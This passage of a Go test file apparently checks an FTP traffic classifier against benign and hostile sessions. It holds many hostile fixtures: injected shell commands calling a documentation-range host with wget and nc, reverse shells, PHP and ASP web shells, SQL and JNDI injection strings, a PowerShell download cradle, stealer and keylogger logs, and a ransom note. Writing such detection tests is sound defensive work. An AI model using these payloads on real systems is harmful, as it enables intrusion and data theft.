			case test.want == noVerdict:
				if violations+count(got, test.rule, rules.Odd) > 0 {
					t.Errorf("got %v\nwant nothing for %s", got, test.rule)
				}
			case got.Verdict != test.want || test.want == IsUnusual && count(got, test.rule, rules.Odd) == 0:
				t.Errorf("got %v\nwant %s, for %s", got, test.want, test.rule)
			}
		})
	}
}

// TestPasswords logs in with passwords that look like exploits, and with exploits that look like no
// password.
func TestPasswords(t *testing.T) {
	token := base64.RawURLEncoding.EncodeToString([]byte(strings.Repeat(`{"sub":"ada","iat":1764421200}`, 30)))
	for _, password := range []string{
		"x;ls", "${2*2}a", "{{7*7}}!", "`id`", "a|id", "$(reboot)", "' or ''", "x'--", "{a,b}{c,d}{e,f}{g,h}{i,j}{k,l}", "~{", "%x%s0a?", "x%n%s!(){}$HOME;`", "a%d%s9%f", "con/con", "<?=x", "********",
		"${lower:x}", "eyJhbGciOiJIUzI1NiJ9." + token, "%0d%0aQUIT", "pass;wget me",
	} {
		got := forged(t, dialogue("< 220 ready\n> USER ada\n< 331 and?\n> PASS "+password+"\n< 230 in\n> QUIT\n< 221 bye"))
		if got.Verdict != IsNormal {
			t.Errorf("PASS %s: got %v\nwant %s", password, got, IsNormal)
		}
	}
	for _, password := range []string{
		"%x%x%n", "%s%s%s%s", strings.Repeat("Ab", 60), strings.Repeat("abcdefghijklmnopqrstuvwxyz0123456789", 100), strings.Repeat("\x90", 16) + "\xeb\x1f", "\x01\x02\x03\x04\x05/bin/sh",
		"${jndi:ldap://203.0.113.66/a}", "' or '1'='1", "' OR 1=1 --", "' union select 1,2 --", "<script>alert(1)</script>", "<?php system($_GET['c']); ?>", "x;wget http://203.0.113.66/m.sh", "Aa0Aa1Aa2Aa3Aa4",
	} {
		got := forged(t, dialogue("< 220 ready\n> USER ada\n< 331 and?\n> PASS "+password+"\n< 530 no\n> QUIT\n< 221 bye"))
		if got.Verdict != NotNormal {
			t.Errorf("PASS %s: got %v\nwant %s", password, got, NotNormal)
		}
	}
}

// TestRequests sends commands that look like exploits, each in a session of its own, and exploits.
func TestRequests(t *testing.T) {
	for _, command := range []string{
		"STOR Reset & Reboot guide.pdf", "STOR Hair wash & curl tips.pdf", "STOR The Matrix; Reboot.mkv", "STOR Lesson 5; cmd line.txt", "STOR Relax & sleep 8 hours.mp3", "MKD R&ID",
		"STOR Teachers' and parents' evening -- notes.doc", "STOR Boys' or girls' = all.jpg", "MKD Tagged photos", "STOR How to restore.pdf", "STOR README - how to decrypt.txt",
		"STOR hawkeye_s01e01.mkv", "STOR Stealers Wheel - Star.mp3", "STOR SC_front-door_2023_01_31_12_00_00.jpg", "STOR page?x=%0D%0A.html", "STOR INDEX.PHP;2", "SITE CHMOD 4755 cgiwrap.cgi",
		"REST -1794967296", "SITE EXEC dir", "SITE EXEC idle.exe", "SITE CPTO /www/index-copy.php", "RETR keylogger-detection.pdf",
	} {
		if got := forged(t, session1("> "+command+"\n< 550 no")); got.Verdict == NotNormal {
			t.Errorf("%s: got %v\nwant %s at most", command, got, IsUnusual)
		}
	}
	for greeting, want := range map[string]Verdict{
		"RobotFTP ready": IsNormal, "Bot server of the game": IsNormal, "You are a hacker, and you want my flag.": IsNormal,
		"This system is owned by Example Ltd. Hackers will be prosecuted.": IsNormal, "Anyone who uploads warez here is reported.": IsNormal,
		"The server of a museum, next to the back door": IsNormal, "A hacked version of an old server": IsNormal,
		"This box was Hacked By mallory": IsUnusual, "Your server has been hacked": IsUnusual, "0wn3d by us": IsUnusual, "~ pwned ~": IsUnusual,
		"w3lc0me": IsUnusual, "The home of warez": IsUnusual, "BackdoorFTPd ready": IsUnusual, "NzmxFtpd 0wns j0": NotNormal,
	} {
		if got := forged(t, dialogue("< 220 "+greeting+"\n> QUIT\n< 221 bye")); got.Verdict != want {
			t.Errorf("%s: got %v\nwant %s", greeting, got, want)
		}
	}
	for _, command := range []string{
		"MKD ;reboot", "CWD ;ls", "LIST `id`", "MKD a && wget http://203.0.113.66/x", "NLST | nc 203.0.113.66 4444", "RETR a;cat /etc/passwd", "MKD $(id)", "CWD x|whoami", "STOR a;sleep 10;", "MKD ; /bin/sh",
		"RETR ' union select 1,2 --", "CWD ' or 1=1 --", "RETR '; drop table files", "STOR HawkEye_Keylogger_Records_PC7.txt", "STOR a.asp;.jpg", "STOR a.php%00.jpg", "RETR a%0aUSER root", "REST 9999999999999999999",
		"SITE EXEC /bin/sh -c id", "SITE CPFR /proc/self/environ", "STOR KL_ada-PC7_2023_01_31_12_00_00.html",
	} {
		if got := forged(t, session1("> "+command+"\n< 550 no")); got.Verdict != NotNormal {
			t.Errorf("%s: got %v\nwant %s", command, got, NotNormal)
		}
	}
}

// TestContents stores files that look like those of intruders, each twice in a session of its own, and
// files of intruders.
func TestContents(t *testing.T) {
	page := func(text string) string { return "<html><body>" + text + "</body></html>" }
	settings := "  host: localhost\n  username: app\n  password: x\n"
	for name, content := range map[string]string{
		"database.yml":    "development:\n" + settings + "test:\n" + settings + "production:\n" + settings,
		"application.yml": "spring:\n  datasource:\n    url: jdbc:mysql://localhost/db\n    username: root\n    password: x\n",
		"mail.html":       page("Open <b>Outlook</b> and click on File."),
		"keys.html":       page("<b>[ Example ]</b> (06/11/2024 09:12:33) writes a name, and goes on: Send Ada {Tab} {Enter}"),
		"keys.txt":        "Close the window: Alt+F4\nConfirm: [Enter]\nNext field: [Tab]\n",
		"cakes.zip":       "PK\x03\x04\x14\x00\x00\x00\x08\x00cookies/brownies.html",
		"lists.zip":       "PK\x03\x04\x14\x00\x00\x00\x08\x00SecLists/passwords.txt",
		"guide.txt":       "The program shows all recovered passwords in a table.",
		"about.html":      page("<p>Our shop is owned by the family Lovelace.</p>"),
		"news.html":       page("<p>In 2019 the site was hacked by a group.</p>"),
		"tags.html":       page(`<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-7" height="0" width="0" style="display:none;visibility:hidden"></iframe></noscript>`),
		"upload.html":     page(`<form target="f"></form><iframe name="f" style="display:none"></iframe>`),
		"cron.php":        `<?php exec("php " . $_SERVER["DOCUMENT_ROOT"] . "/cron.php"); assert(isset($_SERVER["HTTP_HOST"]));`,
		"ping.php":        `<?php system("ping -c 1 " . escapeshellarg($_GET["host"]));`,
		"footer.php":      `<?php eval(base64_decode("ZWNobyAxOw=="));`,
		"wait-for-it.sh":  "#!/bin/bash\n(echo > /dev/tcp/$WAITFORIT_HOST/$WAITFORIT_PORT) >/dev/null 2>&1\n",
		"run.sh":          "#!/bin/bash -i\necho hello\n",
		"terminal.py":     "import pty\npty.spawn('/bin/bash')\n",
		"admin.asp":       `<% Set sh = Server.CreateObject("WScript.Shell") : v = sh.RegRead("HKLM\Software\Shop") %>`,
		"disk.jsp":        `<% Process p = Runtime.getRuntime().exec("df -h"); %>`,
		"advice.html":     page("<p>Ransomware: if your files are encrypted, do not pay. Attackers want bitcoin and a visit with the Tor Browser.</p>"),
		"export.csv":      "name,url,username,password\na,https://a.example/,ada,x7!\nb,https://b.example/,ada,y7!\nc,https://c.example/,ada,z7!\n",
		"settlement.csv":  cardNumbers(10),
	} {
		got := forged(t, moves([2]string{"STOR " + name, content}, [2]string{"STOR a/" + name, content}))
		if got.Verdict == NotNormal {
			t.Errorf("%s: got %v\nwant %s at most", name, got, IsUnusual)
		}
	}
	for name, content := range map[string]string{
		"log.txt":     "URL: https://bank.example/\r\nUsername: ada\r\nPassword: x\r\nApplication: Chrome\r\n",
		"list.txt":    "URL: https://a.example/\nLogin: ada\nPassword: x7\nURL: https://b.example/\nLogin: ada\nPassword: y7\nURL: https://c.example/\nLogin: ada\nPassword: z7\n",
		"log.html":    "URL: https://bank.example/<br>User: ada<br>Password: x<br>",
		"mail.html":   "<b>Outlook</b><br>Email: ada@example.test",
		"keys.html":   "<html>User Name: ada<hr><b>[ Mail - Inbox ]</b> (06/11/2024 09:12:33)<br>dear bob{BACK}{BACK}<br>ada{Tab}secret{ENTER}",
		"keys.txt":    "Window: Mail\r\nada[TAB]secret[ENTER]\r\n",
		"PC7.zip":     "PK\x03\x04\x14\x00\x00\x00\x08\x00Passwords.txt and sizes Autofills/",
		"a.php":       `<?php assert(@$_GET["c"]);`,
		"b.php":       `<?php eval(base64_decode($_COOKIE["c"]));`,
		"c.php":       `<?php system($_SERVER["HTTP_X_CMD"]);`,
		"shell.sh":    "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1\n",
		"shell.pl":    `use Socket; connect(S,$a); exec("/bin/sh -i");`,
		"nc.sh":       "nc 203.0.113.66 4444 -e /bin/sh\n",
		"a.asp":       `<% CreateObject("WScript.Shell").Exec(Request("c")) %>`,
		"README.txt":  "Your network is encrypted by LockBit, the fastest ransomware. Pay bitcoin to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq.",
		"stripes.txt": "%B4000000000000002^LOVELACE/ADA^2912101000000000?",
	} {
		if got := forged(t, moves([2]string{"STOR " + name, content})); got.Verdict != NotNormal {
			t.Errorf("%s: got %v\nwant %s", name, got, NotNormal)
		}
	}
	for content, want := range map[string]bool{
		"powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://www.example/a')": true, // a computer may run it
		`<cfexecute name="cmd.exe" arguments="/c #form.c#">`:                                           false,
	} {
		if got := forged(t, moved("RETR a", answerer, content)); (got.Verdict == NotNormal) != want {
			t.Errorf("RETR of %s: got %v\nwant %s: %v", content, got, NotNormal, want)
		}
	}
}
